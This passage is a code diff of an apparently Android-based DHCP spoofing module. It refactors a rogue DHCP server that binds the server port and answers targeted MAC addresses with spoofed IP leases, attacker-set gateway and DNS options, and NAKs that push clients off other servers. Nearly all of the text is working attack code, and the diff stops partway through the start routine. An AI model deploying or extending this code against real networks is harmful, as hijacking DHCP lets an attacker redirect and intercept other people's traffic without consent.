@@ -1,11 +1,18 @@
 #include "dhcp_spoofing.h"
-#include <android/log.h>
+#include "dhcp_wire.h"
+#include "reactor.h"
+#include "packet_io.h"
+#include "harpy_log.h"
+#include "harpy_metrics.h"
+#include "harpy_trace.h"
+#include <algorithm>
 #include <cstring>
 #include <vector>
 #include <map>
 #include <thread>
 #include <mutex>
 #include <atomic>
+#include <chrono>
 #include <sys/socket.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
@@ -14,37 +21,80 @@
 #include <net/if.h>
 #include <sys/ioctl.h>
 #include <netinet/ether.h>
+#include <time.h>
 
 #define LOG_TAG "DHCPSpoofing"
-#define LOGD(...) __android_log_print(ANDROID_LOG_DEBUG, LOG_TAG, __VA_ARGS__)
-#define LOGE(...) __android_log_print(ANDROID_LOG_ERROR, LOG_TAG, __VA_ARGS__)
-
-// DHCP packet structures
-struct dhcp_header {
-    uint8_t op;           // Message type (1=request, 2=response)
-    uint8_t htype;        // Hardware address type (1=Ethernet)
-    uint8_t hlen;         // Hardware address length (6 for MAC)
-    uint8_t hops;         // Client sets to 0
-    uint32_t xid;         // Transaction ID
-    uint16_t secs;        // Seconds elapsed
-    uint16_t flags;       // Flags
-    uint32_t ciaddr;      // Client IP address
-    uint32_t yiaddr;      // Your IP address (assigned by server)
-    uint32_t siaddr;      // Server IP address
-    uint32_t giaddr;      // Gateway IP address
-    uint8_t chaddr[16];   // Client hardware address
-    uint8_t sname[64];    // Server hostname
-    uint8_t file[128];    // Boot filename
-    uint32_t magic_cookie; // DHCP magic cookie (0x63825363)
+#define LOGD(...) HARPY_LOG(ANDROID_LOG_DEBUG, LOG_TAG, __VA_ARGS__)
+#define LOGE(...) HARPY_LOG(ANDROID_LOG_ERROR, LOG_TAG, __VA_ARGS__)
+
+// Lease handed out with spoofed addresses
+static const uint32_t kDhcpLeaseSeconds = 3600;
+// Client messages fit an Ethernet frame; anything longer is dropped
+static const size_t kDhcpMaxDatagram = 1500;
+// Every reply fits the 576 bytes all clients must accept (RFC 2131 section 2)
+static const size_t kDhcpMaxReply = 576;
+// Socket buffers with room for a burst of requests, such as a whole lab
+// rebooting at once, and for the replies to it
+static const int kDhcpSocketBuffer = 1 << 20;
+// Pool leases expire on this tick
+static const int kDhcpTickMs = 1000;
+// How long a rule change waits for the DHCP thread to drop the old table
+// before leaving it for a later change to free
+static const int kGracePeriodWaitMs = 500;
+
+// A rule ready for the packet path: the MAC as bytes and its reply
+// options serialized once
+struct dhcp_compiled_rule {
+    uint8_t mac[6];
+    uint32_t yiaddr;                // Network byte order
+    uint32_t server_id;
+    DhcpOptionsTemplate options;
 };
 
+// Immutable rule lookup published to the DHCP thread. Open addressing
+// over the 48-bit MAC with bit 48 set, so 0 marks an empty slot.
+struct dhcp_rule_table {
+    std::vector<dhcp_compiled_rule> rules;
+    std::vector<uint64_t> keys;
+    std::vector<uint32_t> index;    // Into rules, parallel to keys
+    size_t mask;
+};
+static const uint64_t kMacKeyPresent = 1ULL << 48;
+
 // Global variables for DHCP spoofing
 static std::vector<DHCPSpoofRule> g_dhcp_rules;
 static std::mutex g_dhcp_rules_mutex;
+static std::atomic<const dhcp_rule_table*> g_dhcp_table(nullptr);  // Rebuilt with g_dhcp_rules
+static uint32_t g_dhcp_server_id = 0;   // Our address on the interface, network byte order
+static uint32_t g_dhcp_netmask = 0;
+
+// Quiescent-state reclamation for replaced tables. The socket handler, the
+// only reader, announces the epoch it observed before reading g_dhcp_table
+// and kEpochOffline when it returns to the reactor. A table retired at
+// epoch E is freed once the handler is offline or has announced >= E.
+static const uint64_t kEpochOffline = UINT64_MAX;
+static std::atomic<uint64_t> g_dhcp_epoch(1);
+static std::atomic<uint64_t> g_dhcp_reader_epoch(kEpochOffline);
+struct retired_table {
+    uint64_t epoch;
+    const dhcp_rule_table *table;
+};
+static std::vector<retired_table> g_dhcp_retired;  // Guarded by g_dhcp_rules_mutex
+
+// Lease pool for clients without a rule; rules are reserved in it
+static DHCPPoolConfig g_dhcp_pool_config;
+static bool g_dhcp_pool_configured = false;
+static DhcpLeasePool *g_dhcp_pool = nullptr;
+static std::mutex g_dhcp_pool_mutex;            // Taken after g_dhcp_rules_mutex when both are held
+static DhcpOptionsTemplate g_dhcp_pool_options;
+static uint32_t g_dhcp_pool_server_id = 0;
+static std::vector<uint64_t> g_dhcp_reserved;  // MACs currently reserved in the pool
 static std::atomic<bool> g_dhcp_spoof_active(false);
-static std::thread *g_dhcp_spoof_thread = nullptr;
-static int g_dhcp_socket = -1;
-static std::atomic<bool> g_stop_dhcp_spoofing(false);
+static std::thread *g_dhcp_spoof_thread = nullptr;   // Runs the reactor unless one is hosted for us
+static Reactor *g_dhcp_host_reactor = nullptr;
+static PacketIo *g_dhcp_packet_io = nullptr;        // Set by the caller instead of our own socket
+static uint16_t g_dhcp_server_port = kDhcpServerPort;
+static uint16_t g_dhcp_client_port = kDhcpClientPort;
 
 // Function to convert MAC address to string
 std::string mac_to_string(const uint8_t *mac) {
@@ -71,161 +121,458 @@ bool string_to_mac(const std::string& mac_str, uint8_t *mac) {
     return false;
 }
 
-// Function to craft a DHCP offer/ACK packet
-int craft_dhcp_response(const struct dhcp_header *request, 
-                       struct dhcp_header *response, 
-                       const DHCPSpoofRule& rule) {
-    // Copy the request header to response
-    memcpy(response, request, sizeof(struct dhcp_header));
-    
-    // Set response fields
-    response->op = 2;  // DHCP response
-    response->yiaddr = inet_addr(rule.spoofed_ip.c_str());  // Assign spoofed IP
-    response->siaddr = inet_addr(rule.gateway_ip.c_str());  // Server IP
-    response->magic_cookie = htonl(0x63825363);  // DHCP magic cookie
-    
-    LOGD("Crafted DHCP response for MAC %s -> IP %s", 
-         mac_to_string(request->chaddr).c_str(), rule.spoofed_ip.c_str());
-    
-    return sizeof(struct dhcp_header);
+static uint64_t monotonic_seconds() {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec;
 }
 
-// Function to handle incoming DHCP packets
-void handle_dhcp_packet(unsigned char *packet, int packet_size, struct sockaddr_in * /*client_addr*/) {
-    if (packet_size < (int)sizeof(struct dhcp_header)) {
-        LOGE("DHCP packet too small: %d bytes", packet_size);
-        return;
-    }
-    
-    struct dhcp_header *header = (struct dhcp_header*)packet;
-    
-    // Check if this is a DHCP discover/request message
-    if (header->op != 1) {  // Not a request
-        return;
+static uint32_t parse_ipv4(const std::string& text, uint32_t fallback) {
+    struct in_addr addr;
+    return inet_pton(AF_INET, text.c_str(), &addr) == 1 ? addr.s_addr : fallback;
+}
+
+static int64_t monotonic_us() {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
+}
+
+static size_t mac_slot(uint64_t key, size_t mask) {
+    return (size_t)((key * 0x9e3779b97f4a7c15ULL) >> 32) & mask;
+}
+
+// Index rules by MAC at under half load; the first rule for a MAC wins
+static const dhcp_rule_table *build_rule_table(std::vector<dhcp_compiled_rule> rules) {
+    dhcp_rule_table *table = new dhcp_rule_table();
+    size_t capacity = 16;
+    while (capacity < rules.size() * 2) capacity <<= 1;
+    table->keys.assign(capacity, 0);
+    table->index.assign(capacity, 0);
+    table->mask = capacity - 1;
+    table->rules = std::move(rules);
+    for (size_t i = 0; i < table->rules.size(); i++) {
+        uint64_t key = dhcp_mac_key(table->rules[i].mac) | kMacKeyPresent;
+        size_t slot = mac_slot(key, table->mask);
+        while (table->keys[slot] && table->keys[slot] != key) slot = (slot + 1) & table->mask;
+        if (table->keys[slot]) continue;
+        table->keys[slot] = key;
+        table->index[slot] = (uint32_t)i;
     }
-    
-    // Check for DHCP magic cookie
-    if (ntohl(header->magic_cookie) != 0x63825363) {
-        LOGE("Invalid DHCP magic cookie");
-        return;
+    return table;
+}
+
+static const dhcp_compiled_rule *find_rule(const dhcp_rule_table *table, const uint8_t *mac) {
+    if (!table) return nullptr;
+    uint64_t key = dhcp_mac_key(mac) | kMacKeyPresent;
+    for (size_t slot = mac_slot(key, table->mask); table->keys[slot]; slot = (slot + 1) & table->mask) {
+        if (table->keys[slot] == key) return &table->rules[table->index[slot]];
     }
-    
-    std::string client_mac = mac_to_string(header->chaddr);
-    LOGD("Received DHCP request from MAC: %s", client_mac.c_str());
-    
-    // Check if this MAC matches any of our spoofing rules
-    DHCPSpoofRule matched_rule;
-    bool rule_found = false;
-    
-    {
-        std::lock_guard<std::mutex> lock(g_dhcp_rules_mutex);
-        for(const auto& rule : g_dhcp_rules) {
-            if(rule.target_mac == client_mac) {
-                matched_rule = rule;
-                rule_found = true;
-                break;
+    return nullptr;
+}
+
+// Free every retired table the DHCP thread can no longer hold; caller holds
+// g_dhcp_rules_mutex. With wait set, block up to kGracePeriodWaitMs for the
+// thread to finish its current batch.
+static void reclaim_locked(bool wait) {
+    int64_t deadline = monotonic_us() + (int64_t)kGracePeriodWaitMs * 1000;
+    while (!g_dhcp_retired.empty()) {
+        uint64_t reader = g_dhcp_reader_epoch.load();
+        size_t kept = 0;
+        for (const auto& entry : g_dhcp_retired) {
+            if (entry.epoch <= reader) {
+                delete entry.table;
+            } else {
+                g_dhcp_retired[kept++] = entry;
             }
         }
+        g_dhcp_retired.resize(kept);
+
+        if (kept == 0 || !wait || monotonic_us() >= deadline) break;
+        std::this_thread::sleep_for(std::chrono::microseconds(200));
     }
-    
-    if(rule_found) {
-        LOGD("DHCP spoofing rule matched for %s -> %s", 
-             client_mac.c_str(), matched_rule.spoofed_ip.c_str());
-        
-        // Craft a DHCP response packet
-        struct dhcp_header response;
-        int response_size = craft_dhcp_response(header, &response, matched_rule);
-        
-        // Send the spoofed response back to the client
-        int dhcp_sock = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP);
-        if(dhcp_sock >= 0) {
-            // Set socket options to allow binding to privileged port
-            int opt = 1;
-            setsockopt(dhcp_sock, SOL_SOCKET, SO_REUSEADDR, &opt, sizeof(opt));
-            setsockopt(dhcp_sock, SOL_SOCKET, SO_BROADCAST, &opt, sizeof(opt));
-            
-            struct sockaddr_in response_addr;
-            memset(&response_addr, 0, sizeof(response_addr));
-            response_addr.sin_family = AF_INET;
-            response_addr.sin_port = htons(68);  // BOOTP client port
-            response_addr.sin_addr.s_addr = INADDR_BROADCAST;  // Broadcast to all clients
-            
-            ssize_t sent = sendto(dhcp_sock, &response, response_size, 0, 
-                                  (struct sockaddr*)&response_addr, sizeof(response_addr));
-            
-            if(sent > 0) {
-                LOGD("Sent spoofed DHCP response to %s (%d bytes)", 
-                     client_mac.c_str(), (int)sent);
+}
+
+// Rebuild the rule table from g_dhcp_rules and publish it; call with
+// g_dhcp_rules_mutex held. The DHCP thread picks the new table up on its
+// next batch without taking a lock.
+static void compile_rules() {
+    std::vector<dhcp_compiled_rule> compiled_rules;
+    compiled_rules.reserve(g_dhcp_rules.size());
+    for (const auto& rule : g_dhcp_rules) {
+        dhcp_compiled_rule compiled;
+        struct in_addr addr;
+        if (!string_to_mac(rule.target_mac, compiled.mac) ||
+            inet_pton(AF_INET, rule.spoofed_ip.c_str(), &addr) != 1) {
+            LOGE("Skipping invalid DHCP rule %s -> %s", rule.target_mac.c_str(), rule.spoofed_ip.c_str());
+            continue;
+        }
+        compiled.yiaddr = addr.s_addr;
+        uint32_t router = parse_ipv4(rule.gateway_ip, 0);
+        uint32_t mask = parse_ipv4(rule.subnet_mask, g_dhcp_netmask ? g_dhcp_netmask : htonl(0xffffff00));
+        uint32_t dns = parse_ipv4(rule.dns_server, 0);
+        // Clients send renewals to the server ID, so it has to be us when we know our address
+        compiled.server_id = g_dhcp_server_id ? g_dhcp_server_id : router;
+        dhcp_build_options_template(&compiled.options, compiled.server_id, mask, router, dns,
+                                    kDhcpLeaseSeconds);
+        compiled_rules.push_back(compiled);
+    }
+
+    const dhcp_rule_table *table = build_rule_table(std::move(compiled_rules));
+    const dhcp_rule_table *old_table = g_dhcp_table.exchange(table);
+    if (old_table) {
+        g_dhcp_retired.push_back({g_dhcp_epoch.fetch_add(1) + 1, old_table});
+    }
+    reclaim_locked(true);
+
+    // Rules are static reservations layered on the pool
+    std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+    if (!g_dhcp_pool) return;
+    for (uint64_t mac : g_dhcp_reserved) {
+        dhcp_pool_unreserve(g_dhcp_pool, mac);
+    }
+    g_dhcp_reserved.clear();
+    for (const auto& compiled : table->rules) {
+        uint64_t mac = dhcp_mac_key(compiled.mac);
+        if (dhcp_pool_reserve(g_dhcp_pool, mac, compiled.yiaddr)) {
+            g_dhcp_reserved.push_back(mac);
+        }
+    }
+}
+
+// Reply to a REQUEST according to the client's state (RFC 2131 section 4.3.2)
+static uint8_t request_reply_type(const DhcpMessage& msg, const dhcp_compiled_rule& rule) {
+    if (msg.has_server_id) {
+        // SELECTING: a client that took another server's offer gets no reply
+        if (msg.server_id != rule.server_id) return 0;
+        return msg.has_requested_ip && msg.requested_ip == rule.yiaddr ? kDhcpAck : kDhcpNak;
+    }
+    // INIT-REBOOT carries the requested address; RENEWING and REBINDING fill in ciaddr.
+    // NAKing a foreign address sends the client straight back to DISCOVER.
+    uint32_t wanted = msg.ciaddr ? msg.ciaddr : msg.has_requested_ip ? msg.requested_ip : 0;
+    if (!wanted) return 0;
+    return wanted == rule.yiaddr ? kDhcpAck : kDhcpNak;
+}
+
+// Reply for a client with a rule of its own; yiaddr is set for replies
+static uint8_t rule_reply_type(const DhcpMessage& msg, const dhcp_compiled_rule& rule, uint32_t *yiaddr) {
+    *yiaddr = rule.yiaddr;
+    switch (msg.type) {
+        case kDhcpDiscover:
+            return kDhcpOffer;
+        case kDhcpRequest:
+            return request_reply_type(msg, rule);
+        case kDhcpInform:
+            // Configuration only: the client already has an address
+            *yiaddr = 0;
+            return kDhcpAck;
+        case kDhcpDecline:
+            harpy_metrics_add(HarpyCounter::DHCP_DECLINES);
+            HARPY_EVENT(ANDROID_LOG_ERROR, 10, "%M declined the spoofed address (already in use)",
+                        harpy_event_mac(msg.chaddr));
+            return 0;
+    }
+    return 0;
+}
+
+// Reply for a client served from the lease pool; call with g_dhcp_pool_mutex held
+static uint8_t pool_reply_type(const DhcpMessage& msg, uint64_t now, uint32_t *yiaddr) {
+    uint64_t mac = dhcp_mac_key(msg.chaddr);
+    switch (msg.type) {
+        case kDhcpDiscover:
+            *yiaddr = dhcp_pool_offer(g_dhcp_pool, mac, msg.has_requested_ip ? msg.requested_ip : 0, now);
+            if (*yiaddr == 0) {
+                harpy_metrics_add(HarpyCounter::DHCP_POOL_EXHAUSTED);
+                HARPY_EVENT(ANDROID_LOG_ERROR, 1, "DHCP pool exhausted");
+                return 0;
+            }
+            return kDhcpOffer;
+        case kDhcpRequest: {
+            // Same client states as request_reply_type; the offer is left to expire
+            // when the client picked another server
+            uint32_t wanted;
+            if (msg.has_server_id) {
+                if (msg.server_id != g_dhcp_pool_server_id) return 0;
+                wanted = msg.has_requested_ip ? msg.requested_ip : 0;
             } else {
-                LOGE("Failed to send DHCP response: %s", strerror(errno));
+                wanted = msg.ciaddr ? msg.ciaddr : msg.has_requested_ip ? msg.requested_ip : 0;
+                if (!wanted) return 0;
             }
-            
-            close(dhcp_sock);
+            *yiaddr = wanted;
+            return wanted && dhcp_pool_commit(g_dhcp_pool, mac, wanted, now) ? kDhcpAck : kDhcpNak;
         }
+        case kDhcpInform:
+            return kDhcpAck;
+        case kDhcpDecline:
+            harpy_metrics_add(HarpyCounter::DHCP_DECLINES);
+            HARPY_EVENT(ANDROID_LOG_ERROR, 10, "%M declined a pool address (already in use)", harpy_event_mac(msg.chaddr));
+            dhcp_pool_decline(g_dhcp_pool, mac, msg.requested_ip, now);
+            return 0;
+        case kDhcpRelease:
+            dhcp_pool_release(g_dhcp_pool, mac, msg.ciaddr);
+            return 0;
+    }
+    return 0;
+}
+
+// Where a reply goes (RFC 2131 section 4.1). Clients without an address
+// are reached by broadcast, since unicasting to yiaddr needs an ARP entry.
+static void reply_destination(const DhcpMessage& msg, uint8_t type, struct sockaddr_in *dest) {
+    memset(dest, 0, sizeof(*dest));
+    dest->sin_family = AF_INET;
+    dest->sin_port = htons(g_dhcp_client_port);
+    if (msg.giaddr) {
+        dest->sin_port = htons(g_dhcp_server_port);
+        dest->sin_addr.s_addr = msg.giaddr;
+    } else if (type != kDhcpNak && msg.ciaddr) {
+        dest->sin_addr.s_addr = msg.ciaddr;
     } else {
-        LOGD("No DHCP spoofing rule found for MAC: %s", client_mac.c_str());
+        dest->sin_addr.s_addr = INADDR_BROADCAST;
     }
 }
 
-// Main DHCP spoofing thread function
-void dhcp_spoof_thread_func(const std::string& interface) {
-    LOGD("Starting DHCP spoofing on interface: %s", interface.c_str());
-    
-    // Create raw socket to capture DHCP packets (UDP port 67)
-    g_dhcp_socket = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP);
-    if(g_dhcp_socket < 0) {
+// Answer one client message against the current rule table: the reply is
+// built into out and its destination into dest. Nothing here allocates or
+// logs on the success path, so a storm of requests costs parsing and a memcpy.
+// @return Size of the reply, 0 for none
+static size_t answer_dhcp_packet(const uint8_t *packet, size_t packet_size, const dhcp_rule_table *table,
+                                 uint64_t now, uint8_t *out, size_t cap, struct sockaddr_in *dest) {
+    HarpyTraceScope trace("dhcp", "message");
+    DhcpMessage msg;
+    if (!dhcp_parse_message(packet, packet_size, &msg)) {
+        return 0;
+    }
+    trace.set_arg("type", msg.type);
+    // Plain BOOTP clients and non-Ethernet hardware are not ours to answer
+    if (msg.type == 0 || msg.htype != 1 || msg.hlen != 6) {
+        return 0;
+    }
+
+    uint8_t reply_type;
+    uint32_t yiaddr = 0;
+    size_t reply_size;
+    const dhcp_compiled_rule *rule = find_rule(table, msg.chaddr);
+    if (rule) {
+        reply_type = rule_reply_type(msg, *rule, &yiaddr);
+        if (reply_type == 0) return 0;
+        reply_size = dhcp_build_reply(&msg, reply_type, yiaddr, &rule->options, out, cap);
+    } else {
+        HarpyTraceLock lock(g_dhcp_pool_mutex, "g_dhcp_pool_mutex");
+        if (!g_dhcp_pool) return 0;
+        reply_type = pool_reply_type(msg, now, &yiaddr);
+        if (reply_type == 0) return 0;
+        reply_size = dhcp_build_reply(&msg, reply_type, yiaddr, &g_dhcp_pool_options, out, cap);
+    }
+    if (reply_size == 0) {
+        HARPY_EVENT(ANDROID_LOG_ERROR, 10, "DHCP reply for %M does not fit", harpy_event_mac(msg.chaddr));
+        return 0;
+    }
+    reply_destination(msg, reply_type, dest);
+    harpy_metrics_add(reply_type == kDhcpOffer ? HarpyCounter::DHCP_OFFERS :
+                      reply_type == kDhcpAck ? HarpyCounter::DHCP_ACKS : HarpyCounter::DHCP_NAKS);
+    return reply_size;
+}
+
+// IPv4 address and netmask of an interface in network byte order, or 0
+static uint32_t interface_address(const char *interface, uint32_t *netmask) {
+    int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    if (sock < 0) return 0;
+    struct ifreq ifr;
+    memset(&ifr, 0, sizeof(ifr));
+    strncpy(ifr.ifr_name, interface, IFNAMSIZ - 1);
+    uint32_t addr = 0;
+    *netmask = 0;
+    if (ioctl(sock, SIOCGIFADDR, &ifr) == 0) {
+        addr = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
+        if (ioctl(sock, SIOCGIFNETMASK, &ifr) == 0) {
+            *netmask = ((struct sockaddr_in *)&ifr.ifr_netmask)->sin_addr.s_addr;
+        }
+    }
+    close(sock);
+    return addr;
+}
+
+// Server port socket, bound here so a busy port fails the start; replies to
+// every client go out from it as well
+static int open_server_socket() {
+    int sockfd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDP);
+    if (sockfd < 0) {
         LOGE("Failed to create DHCP spoofing socket: %s", strerror(errno));
-        return;
+        return -1;
     }
-    
+
     // Allow port reuse and broadcast
     int opt = 1;
-    setsockopt(g_dhcp_socket, SOL_SOCKET, SO_REUSEADDR, &opt, sizeof(opt));
-    setsockopt(g_dhcp_socket, SOL_SOCKET, SO_BROADCAST, &opt, sizeof(opt));
-    
-    // Bind to DHCP server port (67)
+    setsockopt(sockfd, SOL_SOCKET, SO_REUSEADDR, &opt, sizeof(opt));
+    setsockopt(sockfd, SOL_SOCKET, SO_BROADCAST, &opt, sizeof(opt));
+    int bufsize = kDhcpSocketBuffer;
+    setsockopt(sockfd, SOL_SOCKET, SO_RCVBUF, &bufsize, sizeof(bufsize));
+    setsockopt(sockfd, SOL_SOCKET, SO_SNDBUF, &bufsize, sizeof(bufsize));
+
     struct sockaddr_in server_addr;
     memset(&server_addr, 0, sizeof(server_addr));
     server_addr.sin_family = AF_INET;
-    server_addr.sin_port = htons(67);  // DHCP server port
+    server_addr.sin_port = htons(g_dhcp_server_port);
     server_addr.sin_addr.s_addr = INADDR_ANY;  // Listen on all interfaces
-    
-    if(bind(g_dhcp_socket, (struct sockaddr*)&server_addr, sizeof(server_addr)) < 0) {
-        LOGE("Failed to bind DHCP socket to port 67: %s", strerror(errno));
-        close(g_dhcp_socket);
-        g_dhcp_socket = -1;
-        return;
+
+    if (bind(sockfd, (struct sockaddr*)&server_addr, sizeof(server_addr)) < 0) {
+        LOGE("Failed to bind DHCP socket to port %u: %s", g_dhcp_server_port, strerror(errno));
+        close(sockfd);
+        return -1;
     }
-    
-    g_stop_dhcp_spoofing = false;
-    
-    // Buffer for incoming packets
-    unsigned char packet_buffer[1500];  // Standard Ethernet frame size
-    
-    LOGD("DHCP spoofing listening on port 67...");
-    
-    while(!g_stop_dhcp_spoofing) {
-        struct sockaddr_in client_addr;
-        socklen_t addr_len = sizeof(client_addr);
-        
-        int packet_size = recvfrom(g_dhcp_socket, packet_buffer, sizeof(packet_buffer), 0,
-                                   (struct sockaddr*)&client_addr, &addr_len);
-        
-        if(packet_size < 0) {
-            if(errno == EINTR) continue;
-            LOGE("Error receiving DHCP packet: %s", strerror(errno));
-            break;
+    return sockfd;
+}
+
+// A running server: its packets and timer live on a reactor, either one
+// created for it and run by g_dhcp_spoof_thread or the host's
+struct dhcp_server {
+    int sockfd;                     // Bound to the server port; receives requests and sends every reply
+    PacketIo *io;                   // Over sockfd, or the caller's
+    bool own_io;
+    Reactor *reactor;
+    bool own_reactor;
+    bool attached;
+    ReactorTimer *tick;
+};
+static dhcp_server *g_dhcp_server = nullptr;
+
+// Answer a batch of client messages; the replies go out together once we return
+static void on_dhcp_batch(void * /*ctx*/, PacketIo *io, const Packet *batch, int count) {
+    HarpyTraceScope trace("dhcp", "message_batch");
+    trace.set_arg("messages", count);
+    // Hold the rule table only while answering
+    g_dhcp_reader_epoch.store(g_dhcp_epoch.load());
+    std::atomic_thread_fence(std::memory_order_seq_cst);
+    uint64_t now = monotonic_seconds();
+
+    // Match against the current rule snapshot; no lock on the rule path
+    const dhcp_rule_table *table = g_dhcp_table.load(std::memory_order_acquire);
+    harpy_metrics_add(HarpyCounter::DHCP_MESSAGES, count);
+    for (int i = 0; i < count; i++) {
+        struct sockaddr_in dest;
+        int64_t start_ns = harpy_metrics_now_ns();
+        uint8_t *out = packet_io_reply_buffer(io);
+        size_t reply_size = answer_dhcp_packet(batch[i].data, batch[i].len, table, now,
+                                               out, kDhcpMaxReply, &dest);
+        if (reply_size > 0) {
+            packet_io_queue_reply(io, reply_size, &dest);
+            harpy_metrics_record(HarpyHistogram::DHCP_ANSWER, harpy_metrics_now_ns() - start_ns);
+        } else {
+            harpy_metrics_add(HarpyCounter::DHCP_IGNORED);
         }
-        
-        // Handle the DHCP packet
-        handle_dhcp_packet(packet_buffer, packet_size, &client_addr);
     }
-    
-    close(g_dhcp_socket);
-    g_dhcp_socket = -1;
+
+    g_dhcp_reader_epoch.store(kEpochOffline, std::memory_order_release);
+}
+
+// Expire pool leases even when the network is quiet
+static void on_dhcp_tick(void * /*ctx*/) {
+    std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+    if (g_dhcp_pool) dhcp_pool_advance(g_dhcp_pool, monotonic_seconds());
+}
+
+// Run on the server's reactor thread
+static void attach_server(void *ctx) {
+    dhcp_server *server = (dhcp_server*)ctx;
+    server->tick = reactor_add_timer(server->reactor, kDhcpTickMs, on_dhcp_tick, server);
+    server->attached = server->tick && packet_io_start(server->io, server->reactor, on_dhcp_batch, server);
+    if (server->attached) LOGD("DHCP server using %s packets", packet_io_kind_name(packet_io_kind(server->io)));
+}
+
+static void detach_server(void *ctx) {
+    dhcp_server *server = (dhcp_server*)ctx;
+    packet_io_stop(server->io);
+    reactor_remove_timer(server->reactor, server->tick);
+    server->tick = nullptr;
+}
+
+// Detach a server from its reactor, stopping the reactor if it is ours, and free it
+static void release_server(dhcp_server *server) {
+    if (server->reactor) {
+        if (server->own_reactor) {
+            reactor_stop(server->reactor);
+            if (g_dhcp_spoof_thread) {
+                g_dhcp_spoof_thread->join();
+                delete g_dhcp_spoof_thread;
+                g_dhcp_spoof_thread = nullptr;
+            }
+        }
+        if (server->io) reactor_call(server->reactor, detach_server, server);
+        if (server->own_reactor) reactor_destroy(server->reactor);
+    }
+    if (server->own_io) packet_io_close(server->io);
+    if (server->sockfd >= 0) close(server->sockfd);
+    delete server;
+}
+
+// Main DHCP spoofing thread function
+static void dhcp_spoof_thread_func(Reactor *reactor) {
+    LOGD("DHCP spoofing listening on port %u", g_dhcp_server_port);
+    reactor_run(reactor);
     LOGD("DHCP spoofing thread stopped");
 }
 
+// Create the lease pool from g_dhcp_pool_config; call with g_dhcp_rules_mutex held
+static bool start_pool() {
+    const DHCPPoolConfig& config = g_dhcp_pool_config;
+    uint32_t router = parse_ipv4(config.gateway_ip, 0);
+    DhcpLeasePool *pool = dhcp_pool_create(parse_ipv4(config.first_ip, 0), parse_ipv4(config.last_ip, 0),
+                                           config.lease_seconds, monotonic_seconds());
+    if (!pool) {
+        LOGE("Invalid DHCP pool %s - %s", config.first_ip.c_str(), config.last_ip.c_str());
+        return false;
+    }
+    std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+    g_dhcp_pool = pool;
+    g_dhcp_reserved.clear();
+    g_dhcp_pool_server_id = g_dhcp_server_id ? g_dhcp_server_id : router;
+    uint32_t mask = parse_ipv4(config.subnet_mask, g_dhcp_netmask ? g_dhcp_netmask : htonl(0xffffff00));
+    dhcp_build_options_template(&g_dhcp_pool_options, g_dhcp_pool_server_id, mask, router,
+                                parse_ipv4(config.dns_server, 0), config.lease_seconds);
+    LOGD("DHCP pool %s - %s, %u s leases", config.first_ip.c_str(), config.last_ip.c_str(),
+         config.lease_seconds);
+    return true;
+}
+
+bool dhcp_set_pool(const DHCPPoolConfig& config) {
+    if (g_dhcp_spoof_active.load()) {
+        LOGE("Cannot change the DHCP pool while spoofing is active");
+        return false;
+    }
+    struct in_addr first, last;
+    if (inet_pton(AF_INET, config.first_ip.c_str(), &first) != 1 ||
+        inet_pton(AF_INET, config.last_ip.c_str(), &last) != 1 ||
+        ntohl(last.s_addr) < ntohl(first.s_addr) ||
+        ntohl(last.s_addr) - ntohl(first.s_addr) >= kDhcpPoolMaxAddresses) {
+        LOGE("Invalid DHCP pool %s - %s", config.first_ip.c_str(), config.last_ip.c_str());
+        return false;
+    }
+    std::lock_guard<std::mutex> lock(g_dhcp_rules_mutex);
+    g_dhcp_pool_config = config;
+    g_dhcp_pool_configured = true;
+    return true;
+}
+
+void dhcp_set_reactor(Reactor *reactor) {
+    g_dhcp_host_reactor = reactor;
+}
+
+void dhcp_set_packet_io(PacketIo *io) {
+    g_dhcp_packet_io = io;
+}
+
+void dhcp_set_ports(uint16_t server_port, uint16_t client_port) {
+    g_dhcp_server_port = server_port;
+    g_dhcp_client_port = client_port;
+}
+
+bool dhcp_get_pool_stats(DhcpPoolStats *stats) {
+    std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+    if (!g_dhcp_pool) return false;
+    *stats = dhcp_pool_stats(g_dhcp_pool);
+    return true;
+}
+
 bool dhcp_spoof_init() {
     LOGD("Initializing DHCP spoofing operations");
     return true;
@@ -242,19 +589,59 @@ bool dhcp_start_spoofing(const char *interface, const std::vector<DHCPSpoofRule>
     // Apply the rules
     {
         std::lock_guard<std::mutex> lock(g_dhcp_rules_mutex);
+        g_dhcp_server_id = interface_address(interface, &g_dhcp_netmask);
+        if (g_dhcp_server_id == 0) {
+            LOGE("%s has no IPv4 address; using each rule's gateway as server ID", interface);
+        }
+        if (g_dhcp_pool_configured && !start_pool()) {
+            return false;
+        }
         g_dhcp_rules = rules;
+        compile_rules();
+    }
+    {
+        // Only now that the rules are reserved can the journal be replayed around them
+        std::lock_guard<std::mutex> lock(g_dhcp_pool_mutex);
+        if (g_dhcp_pool && !g_dhcp_pool_config.journal_path.empty()) {
+            dhcp_pool_open_journal(g_dhcp_pool, g_dhcp_pool_config.journal_path.c_str());
+        }
     }
     
-    // Start the spoofing thread
-    try {
-        g_dhcp_spoof_thread = new std::thread(dhcp_spoof_thread_func, std::string(interface));
-        g_dhcp_spoof_active = true;
-        LOGD("DHCP spoofing started successfully");
-        return true;
-    } catch(const std::exception& e) {
-        LOGE("Failed to start DHCP spoofing thread: %s", e.what());
-        return false;
+    dhcp_server *server = new dhcp_server();
+    server->sockfd = -1;
+    server->io = g_dhcp_packet_io;
+    server->own_io = server->io == nullptr;
+    if (server->own_io) {
+        server->sockfd = open_server_socket();
+        if (server->sockfd >= 0) server->io = packet_io_open_udp(server->sockfd, kDhcpMaxDatagram, kDhcpMaxReply);
     }
+    server->own_reactor = g_dhcp_host_reactor == nullptr;
+    server->reactor = server->own_reactor ? reactor_create() : g_dhcp_host_reactor;
+    server->attached = false;
+    server->tick = nullptr;
+    if (server->io && server->reactor) {
+        reactor_call(server->reactor, attach_server, server);
+    }
